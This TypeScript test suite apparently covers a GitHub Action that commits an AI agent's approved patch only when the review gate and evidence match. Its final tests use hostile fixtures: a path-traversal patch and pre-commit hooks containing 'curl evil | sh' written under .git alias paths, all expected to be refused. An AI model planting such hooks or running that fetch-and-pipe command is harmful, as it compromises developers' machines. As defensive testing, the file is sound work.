import * as fs from 'node:fs'
import * as path from 'node:path'
import {
  PEOPLE,
  PR_NUMBER,
  TOKEN,
  sha256,
  webhook,
  closeWorld,
  gitIn,
  makeWorld,
  pullRequestEvent,
  runAction,
  writeRunFolder
} from '../../__fixtures__/action-harness.js'
import type { ActionRun, World } from '../../__fixtures__/action-harness.js'
import { ACTIONS_BOT } from '../../__fixtures__/github-stand-in.js'
import { diffTrees } from '../../src/evidence/diff.js'
import { markerFor } from '../../src/github/review/marker.js'

let world: World
/** The tree the agent's change produces, computed by git in a separate clone. */
let expectedTree: string
let patch: Buffer
let diff: string
let reportSha: string

beforeEach(async () => {
  world = await makeWorld({
    'a.txt': 'one\ntwo\n',
    'run.sh': 'echo hi\n',
    link: { link: 'a.txt' },
    'gone.txt': 'bye\n',
    'dir/keep.txt': 'keep\n'
  })
  // The agent's change, made in a clone: an edit, an executable bit, a re-pointed symlink, a
  // new symlink, a deletion, a new binary file.
  const clone = path.join(world.root, 'agent')
  gitIn(world.root, ['clone', '-q', world.workspace, clone])
  fs.writeFileSync(path.join(clone, 'a.txt'), 'one\ntwo\nthree\n')
  fs.chmodSync(path.join(clone, 'run.sh'), 0o755)
  fs.rmSync(path.join(clone, 'link'))
  fs.symlinkSync('dir/keep.txt', path.join(clone, 'link'))
  fs.symlinkSync('../a.txt', path.join(clone, 'dir/up'))
  fs.rmSync(path.join(clone, 'gone.txt'))
  fs.writeFileSync(path.join(clone, 'dir/data.bin'), Buffer.from([0, 1, 2, 255, 0, 10]))
  gitIn(clone, ['add', '-A'])
  expectedTree = gitIn(clone, ['write-tree']).trim()
  const baseTree = gitIn(clone, ['rev-parse', `${world.base}^{tree}`]).trim()
  patch = (await diffTrees(path.join(clone, '.git'), baseTree, expectedTree)).patch
  const report = writeRunFolder(world.out, { runId: '100-1', headSha: world.base, patch })
  diff = report.diff.sha256 as string
  reportSha = sha256(fs.readFileSync(path.join(world.out, 'report.json')))
})
afterEach(async () => {
  await closeWorld(world)
})

/** The approved state: the action's own report review for the diff and its own green status. */
function approveGate(
  sha = world.base,
  description = `approved by @writer-wendy for diff ${diff.slice(0, 12)}`,
  diffSha256 = diff
): void {
  world.api.reviews.push({
    id: 5000 + world.api.reviews.length,
    pull: PR_NUMBER,
    user: ACTIONS_BOT,
    body: `report\n\n${markerFor({ runId: '100-1', headSha: sha, diffSha256 })}\n`,
    state: 'COMMENTED',
    commit_id: sha
  })
  world.api.statuses.push({
    id: world.api.statuses.length + 1,
    sha,
    state: 'success',
    context: 'airlock/approval',
    description,
    target_url: null,
    creator: ACTIONS_BOT
  })
}

/** A run folder holding `patch`, with the gate green for it. */
function approvedRun(patch: Buffer): void {
  writeRunFolder(world.out, { runId: '100-1', headSha: world.base, patch })
  approveGate(
    world.base,
    `approved by @writer-wendy for diff ${sha256(patch).slice(0, 12)}`,
    sha256(patch)
  )
}

function apply(
  eventName = 'pull_request',
  payload: Record<string, unknown> = pullRequestEvent(world.base),
  inputs: Record<string, string> = {}
): Promise<ActionRun> {
  return runAction({
    inputs: { mode: 'apply', 'github-token': TOKEN, 'output-dir': world.out, ...inputs },
    eventName,
    payload,
    apiUrl: world.api.url,
    workspace: world.workspace
  })
}

function remote(args: string[]): string {
  return world.api.git(args).trim()
}

describe('apply', () => {
  test('commits base + patch onto the approved head: modes, symlinks, deletion, trailers', async () => {
    approveGate()
    const run = await apply()
    expect(run.stderr).toBe('')
    expect(run.code).toBe(0)
    const head = remote(['rev-parse', 'refs/heads/feature'])
    expect(run.outputs['commit-sha']).toBe(head)
    expect(remote(['rev-parse', `${head}^`])).toBe(world.base)
    // The commit's tree is exactly what git made of base + the agent's change.
    expect(remote(['rev-parse', `${head}^{tree}`])).toBe(expectedTree)
    const entries = remote(['ls-tree', '-r', head])
    expect(entries).toMatch(/^100755 blob [0-9a-f]{40}\trun\.sh$/m)
    expect(entries).toMatch(/^120000 blob [0-9a-f]{40}\tlink$/m)
    expect(entries).toMatch(/^120000 blob [0-9a-f]{40}\tdir\/up$/m)
    expect(entries).not.toMatch(/gone\.txt/)
    expect(remote(['cat-file', '-p', `${head}:link`])).toBe('dir/keep.txt')
    expect(remote(['cat-file', '-p', `${head}:a.txt`])).toBe('one\ntwo\nthree')
    const trailers = world.api.git(
      ['interpret-trailers', '--parse'],
      remote(['log', '-1', '--format=%B', head])
    )
    expect(trailers).toContain('Airlock-Run-Id: 100-1\n')
    expect(trailers).toContain(`Airlock-Image-Digest: sha256:${'ab'.repeat(32)}\n`)
    expect(trailers).toContain(`Airlock-Report-Sha256: ${reportSha}\n`)
    // A fast-forward, never forced.
    const patchRef = world.api.requests.find(
      (r) => r.route === 'PATCH /repos/{owner}/{repo}/git/refs/{ref}'
    )
    expect(patchRef?.body).toEqual({ sha: head, force: false })
    // Deletions are sent as sha null, on the head's tree.
    const tree = world.api.requests.find((r) => r.route === 'POST /repos/{owner}/{repo}/git/trees')
      ?.body as {
      base_tree: string
      tree: { path: string; sha: string | null }[]
    }
    expect(tree.base_tree).toBe(remote(['rev-parse', `${world.base}^{tree}`]))
    expect(tree.tree).toContainEqual({ path: 'gone.txt', mode: '100644', type: 'blob', sha: null })
  })

  test('a head that moved since the approval is refused, and nothing is written', async () => {
    approveGate()
    const moved = world.api.push('feature')
    const run = await apply()
    expect(run.code).toBe(1)
    expect(run.stdout).toMatch(
      /::error title=Agent Airlock%3A refused::apply refused: the branch moved: approved head [0-9a-f]{12}, now [0-9a-f]{12}/
    )
    expect(world.api.writes()).toEqual([])
    expect(remote(['rev-parse', 'refs/heads/feature'])).toBe(moved)
  })

  test('a head that moves while committing makes the fast-forward fail: nothing changes', async () => {
    approveGate()
    let moved = ''
    world.api.beforeRoute = (route) => {
      if (route === 'PATCH /repos/{owner}/{repo}/git/refs/{ref}' && moved === '')
        moved = world.api.push('feature', 'racing push')
    }
    const run = await apply()
    expect(run.code).toBe(1)
    expect(run.stdout).toContain('moved while committing (not a fast-forward)')
    expect(remote(['rev-parse', 'refs/heads/feature'])).toBe(moved)
  })

  test('without a green gate for this diff, apply refuses', async () => {
    approveGate(world.base, 'approved by @writer-wendy for diff 000000000000')
    const run = await apply()
    expect(run.code).toBe(1)
    expect(run.stdout).toContain('is not approved')
    expect(world.api.writes()).toEqual([])
  })

  test.each([
    [
      'a changed byte in comment.md',
      () => fs.appendFileSync(path.join(world.out, 'comment.md'), ' ')
    ],
    ['a file added', () => fs.writeFileSync(path.join(world.out, 'extra.txt'), 'x')],
    ['no provenance.json', () => fs.rmSync(path.join(world.out, 'provenance.json'))]
  ])(
    'evidence that does not match its statement is refused (%s): nothing is written',
    async (_what, tamper) => {
      approveGate()
      tamper()
      const run = await apply()
      expect(run.code).toBe(1)
      expect(run.stdout).toContain('the evidence does not match its provenance.json')
      expect(world.api.writes()).toEqual([])
    }
  )

  test("a green status created with the pull request author's own token is not an approval", async () => {
    // The report review is the action's; the green status is not: the author posted it through
    // the API with their own token, wording it like the action's own.
    approveGate()
    world.api.statuses.pop()
    const res = await fetch(`${world.api.url}/repos/octo-org/hello/statuses/${world.base}`, {
      method: 'POST',
      headers: { authorization: `token token-${PEOPLE.author.login}` },
      body: JSON.stringify({
        state: 'success',
        context: 'airlock/approval',
        description: `approved by @writer-wendy for diff ${diff.slice(0, 12)}`
      })
    })
    expect(res.status).toBe(201)
    const writesBefore = world.api.writes().length
    const run = await apply()
    expect(run.code).toBe(1)
    expect(run.stdout).toContain('is missing')
    expect(run.stdout).toContain('is not approved')
    expect(world.api.writes().length).toBe(writesBefore)
  })

  test('a green status for a diff whose report is not the latest one is refused', async () => {
    approveGate()
    // A newer report of the action on the pull request names another diff.
    world.api.reviews.push({
      id: 9000,
      pull: PR_NUMBER,
      user: ACTIONS_BOT,
      body: markerFor({ runId: '100-2', headSha: world.base, diffSha256: 'e'.repeat(64) }),
      state: 'COMMENTED',
      commit_id: world.base
    })
    const run = await apply()
    expect(run.code).toBe(1)
    expect(run.stdout).toContain('only the reviewed and approved evidence is applied')
    expect(world.api.writes()).toEqual([])
  })

  test('workflow_dispatch, the repository letting Actions open pull requests: a new branch and a draft pull request, its commit gated (the workflow token starts no workflow for it)', async () => {
    world.api.settings.actionsCanCreatePullRequests = true
    const payload = webhook('workflow_dispatch', undefined, (p) => {
      p.ref = 'refs/heads/main'
    })
    const run = await apply('workflow_dispatch', payload)
    expect(run.code).toBe(0)
    const applied = remote(['rev-parse', 'refs/heads/airlock/100-1'])
    const opened = world.api.events.find((e) => e.name === 'pull_request')
    expect(opened).toMatchObject({ byWorkflowToken: true, startsWorkflows: false })
    expect(world.api.statuses.filter((s) => s.sha === applied)).toEqual([
      expect.objectContaining({
        state: 'pending',
        context: 'airlock/approval',
        description: expect.stringMatching(/no workflow ran for it .*Close and reopen/)
      })
    ])
    const head = remote(['rev-parse', 'refs/heads/airlock/100-1'])
    expect(remote(['rev-parse', `${head}^{tree}`])).toBe(expectedTree)
    expect(remote(['rev-parse', `${head}^`])).toBe(world.base)
    const pr = [...world.api.pulls.values()].find((p) => p.headRef === 'airlock/100-1')
    expect(pr).toMatchObject({ baseRef: 'main', draft: true })
    expect(run.outputs['pull-request-url']).toBe(
      `https://github.com/octo-org/hello/pull/${pr?.number}`
    )
    expect(pr?.number).not.toBe(PR_NUMBER)
  })

  test('workflow_dispatch with the default repository settings: a clear refusal naming the setting, no branch left behind', async () => {
    const payload = webhook('workflow_dispatch', undefined, (p) => {
      p.ref = 'refs/heads/main'
    })
    const run = await apply('workflow_dispatch', payload)
    expect(run.code).not.toBe(0)
    expect(run.stdout).toMatch(
      /refused to open the pull request with this token \(403\).*Allow GitHub Actions to create and approve pull requests.*The branch airlock\/100-1 was deleted again/
    )
    expect(() => remote(['rev-parse', '--verify', 'refs/heads/airlock/100-1'])).toThrow()
    expect(world.api.pulls.size).toBe(1)
  })

  test("workflow_dispatch with a GitHub App's token: the draft pull request starts its workflows", async () => {
    world.api.tokens.set('ghs_apptoken', { login: 'airlock-gate[bot]', id: 77, type: 'Bot' })
    const payload = webhook('workflow_dispatch', undefined, (p) => {
      p.ref = 'refs/heads/main'
    })
    const run = await apply('workflow_dispatch', payload, {
      'github-token': 'ghs_apptoken',
      'app-slug': 'airlock-gate'
    })
    expect([run.code, run.stdout.slice(-1500)]).toEqual([0, expect.any(String)])
    const opened = world.api.events.find((e) => e.name === 'pull_request')
    expect(opened).toMatchObject({ actor: 'airlock-gate[bot]', startsWorkflows: true })
    const applied = remote(['rev-parse', 'refs/heads/airlock/100-1'])
    expect(world.api.statuses.filter((s) => s.sha === applied)).toEqual([
      expect.objectContaining({ state: 'pending', context: 'airlock/approval' })
    ])
  })

  test('dry-run computes the blobs, tree and commit and writes nothing', async () => {
    approveGate()
    const run = await apply('pull_request', pullRequestEvent(world.base), { 'dry-run': 'true' })
    expect(run.code).toBe(0)
    expect(world.api.writes()).toEqual([])
    const record = JSON.parse(fs.readFileSync(path.join(world.out, 'dry-run.json'), 'utf8')) as {
      writes: { route: string }[]
    }
    expect(record.writes.map((w) => w.route)).toEqual([
      'POST /repos/{owner}/{repo}/git/blobs',
      'POST /repos/{owner}/{repo}/git/blobs',
      'POST /repos/{owner}/{repo}/git/blobs',
      'POST /repos/{owner}/{repo}/git/blobs',
      'POST /repos/{owner}/{repo}/git/trees',
      'POST /repos/{owner}/{repo}/git/commits',
      'PATCH /repos/{owner}/{repo}/git/refs/{ref}'
    ])
  })

  test('a patch that climbs out of the tree is refused', async () => {
    approveGate()
    const evil = Buffer.from(
      'diff --git a/../escape.txt b/../escape.txt\nnew file mode 100644\n--- /dev/null\n+++ b/../escape.txt\n@@ -0,0 +1 @@\n+owned\n'
    )
    approvedRun(evil)
    const run = await apply()
    expect(run.code).toBe(1)
    expect(run.stdout).toContain('the patch does not apply')
    expect(world.api.writes()).toEqual([])
    expect(fs.existsSync(path.join(world.root, 'escape.txt'))).toBe(false)
  })

  // An agent's file under a `.git` alias: git itself does not refuse these when protectHFS /
  // protectNTFS are off, and GitHub's tree API takes them as paths.
  test.each([
    '.g\u200cit/hooks/pre-commit',
    '.GIT/hooks/pre-commit',
    'git~1/hooks/pre-commit',
    '.git./hooks/pre-commit',
    'sub/.Git/config'
  ])('a patch writing under the .git alias %j is refused before any write', async (file) => {
    const evil = Buffer.from(
      `diff --git a/${file} b/${file}\nnew file mode 100755\n--- /dev/null\n+++ b/${file}\n@@ -0,0 +1 @@\n+curl evil | sh\n`
    )
    approvedRun(evil)
    const run = await apply()
    expect(run.code).toBe(1)
    expect(run.stdout).toMatch(/apply refused|does not apply/)
    expect(world.api.writes()).toEqual([])
  })
})
